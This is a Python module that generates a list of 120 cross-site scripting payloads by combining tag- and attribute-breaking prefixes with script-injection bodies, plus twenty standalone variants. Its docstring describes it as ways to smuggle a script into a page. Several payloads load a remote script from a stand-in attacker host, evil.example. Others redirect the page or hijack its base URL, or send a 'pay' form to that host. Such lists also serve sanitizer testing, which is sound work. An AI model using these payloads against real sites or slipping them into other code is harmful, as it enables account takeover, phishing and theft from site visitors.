"""A hundred and twenty ways to smuggle a script into a page, made from the few ideas behind them."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
ENTRANCES = ("", '"', "'", '">', "'>", "</title>", "</svg>", "</code></pre>", "-->", "</option></select>")
BODIES = (
    f"<script>{CALL}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT><!--{CALL}",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<iframe srcdoc='&lt;script&gt;{CALL}&lt;/script&gt;'>",
    f"<a href=javascript:{CALL}>x</a>",
    f" onmouseover={CALL} x=",
    f"<style>*{{background:url(//evil.example/{CALL})}}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
)
ALONE = (
    "{{ 7 * 7 }}", "{% raw %}<b>{% endraw %}", "${7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "<<script>alert(1)//<</script>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "]]><script>alert(1)</script>", "\u202e<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)",
    "<b\u2028onclick=alert(1)>", "javascript:alert(1)//`<svg onload=alert(1)>`", "`<img src=x onerror=alert(1)>`",
    "_x_<u onclick=alert(1)>_y_=<i>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button>pay</button>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "=1+1<script>alert(1)</script>",
)  # fmt: skip
PAYLOADS = (*(entrance + body for entrance, body in product(ENTRANCES, BODIES)), *ALONE)
